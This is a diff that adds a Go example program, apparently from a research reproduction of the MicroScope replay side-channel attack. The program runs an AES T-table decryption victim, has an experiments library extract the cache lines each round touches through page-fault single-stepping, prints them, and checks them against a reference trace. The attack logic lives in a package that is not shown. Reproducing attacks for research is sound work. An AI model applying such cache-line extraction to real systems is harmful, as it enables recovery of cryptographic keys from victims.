@@ -1,0 +1,48 @@
+// AES leak: the §6.2 attack end to end. A victim decrypts one AES block
+// with the OpenSSL-style T-table implementation; MicroScope single-steps
+// it with an rk-page replay handle and a Td0-page pivot, extracting every
+// T-table cache line the decryption touches — in one logical run, with
+// zero noise — and verifies the result against the reference trace.
+//
+// Run with: go run ./examples/aesleak
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"microscope/attack/experiments"
+)
+
+func main() {
+	cfg := experiments.DefaultAESConfig()
+	cfg.Key = []byte("sixteen byte key")
+	cfg.Plaintext = []byte("the secret block")
+
+	res, err := experiments.RunAESExtraction(cfg)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	fmt.Printf("AES-%d decryption: %d rounds, %d page faults used\n",
+		len(cfg.Key)*8, res.Rounds, res.Faults)
+	for r := 1; r <= res.Rounds; r++ {
+		if r == res.Rounds {
+			fmt.Printf("round %2d (final): Td4 lines %v\n",
+				r, experiments.LinesOf(res.Extracted[r][4]))
+			continue
+		}
+		fmt.Printf("round %2d:", r)
+		for t := 0; t < 4; t++ {
+			fmt.Printf(" Td%d%v", t, experiments.LinesOf(res.Extracted[r][t]))
+		}
+		fmt.Println()
+	}
+
+	ok, diff := res.Match()
+	fmt.Printf("\nextraction matches the reference trace: %t\n", ok)
+	fmt.Printf("victim still decrypted correctly:      %t\n", res.PlaintextOK)
+	if !ok {
+		log.Fatal(diff)
+	}
+}
